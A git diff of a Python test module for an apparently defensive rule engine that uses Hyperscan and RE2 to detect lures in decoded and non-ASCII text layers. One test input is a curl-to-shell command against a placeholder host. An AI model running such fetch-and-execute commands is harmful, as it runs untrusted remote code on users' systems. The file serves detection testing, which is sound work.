@@ -1,9 +1,10 @@
-"""A short text's layers read lazily (rules.Reported): Hyperscan's reports of a layer, each
-confirmed by RE2 only when a rule asks. A layer so read says of every pattern what hits would
-have said (of the bytes it was given, too), the engine finds what it finds with every layer's
-hits made whole, a lure that only a decoded or normalised layer shows is still caught there,
-and a text just past the lazy reading's limits (TIMED_CHUNK bytes, beyond ASCII, no database
-or not all the patterns in it) gets hits as before."""
+"""A short text's layers read lazily (rules.Reported): what hits would find, with Hyperscan's
+reports and the literal guard's candidates each confirmed by RE2 only when a rule asks. A layer
+so read says of every pattern what hits would have said (beyond ASCII, without the database,
+of the bytes it was given), the engine finds what it finds with every layer's hits made whole,
+a lure that only a decoded or normalised layer shows is still caught there, and a text just
+past the lazy reading's limits (TIMED_CHUNK bytes, a letter only RE2 folds to ASCII) gets hits
+as before."""
 
 from __future__ import annotations
 
@@ -31,24 +32,25 @@ def said(fast: CompiledRules, layer: Reported) -> frozenset[int]:
 def test_a_layer_read_lazily_says_of_each_pattern_what_hits_says(
     both: tuple[CompiledRules, CompiledRules],
 ) -> None:
-    fast, exact = both
-    texts = [t for t in case_texts() if t.isascii()]
+    texts = case_texts()
     rng = random.Random(15)
-    joined = [" | ".join(rng.sample(texts, 3)) for _ in range(300)]
-    checked = 0
-    for text in [*texts[::4], *joined]:
-        layer = fast.reported(text)
-        if layer is None:
-            continue
-        checked += 1
-        expected, finished = exact.hits(text)
-        assert finished
-        assert layer.reported >= expected, text[:200]  # a report for every pattern that occurs
-        assert {i for i in layer.reported if fast.occurs(i, layer)} == expected, text[:200]
-    assert checked > 2500
+    joined = [rng.choice([" | ", " é ", "\n"]).join(rng.sample(texts, 3)) for _ in range(300)]
+    for rules in both:  # with the database, and without it (the guard's candidates alone)
+        checked = beyond_ascii = 0
+        for text in [*texts[::4], *joined]:
+            layer = rules.reported(text)
+            if layer is None:
+                continue
+            checked += 1
+            beyond_ascii += not text.isascii()
+            expected, finished = rules.hits(text)
+            assert finished
+            assert layer.reported >= expected, text[:200]  # all that occurs may occur
+            assert {i for i in layer.reported if rules.occurs(i, layer)} == expected, text[:200]
+        assert checked > 2500 and beyond_ascii > 300
 
 
-def test_only_what_hits_reads_as_its_reports_confirmed_is_read_lazily(
+def test_only_a_text_hits_reads_in_one_pass_without_the_clock_is_read_lazily(
     both: tuple[CompiledRules, CompiledRules],
 ) -> None:
     fast, exact = both
@@ -61,11 +63,12 @@ def test_only_what_hits_reads_as_its_reports_confirmed_is_read_lazily(
     given = b"curl -s https://a.example.test/x | sh"  # the raw text's own bytes, when given
     layer = fast.reported(text, given)
     assert layer is not None and said(fast, layer) == exact.hits(text, None, given)[0]
-    assert fast.reported(text + "é") is None  # beyond ASCII: not every pattern is in it
-    assert exact.reported(text) is None  # no database
-    with pytest.MonkeyPatch.context() as patch:  # a database without all the patterns
-        patch.setattr(fast, "_hs_all", False)
-        assert fast.reported(text) is None
+    for other in (text + "é", text + "\u4e2d"):  # beyond ASCII: the RE2 sets' share outright
+        layer = fast.reported(other)
+        assert layer is not None and said(fast, layer) == exact.hits(other)[0]
+    # a letter RE2 folds to ASCII: hits reads it without the database, so not lazily
+    assert fast.reported(text + "\u017f") is None
+    assert exact.reported(text + "\u017f") is not None  # (no database: nothing to misread)
 
 
 @pytest.fixture(scope="module")
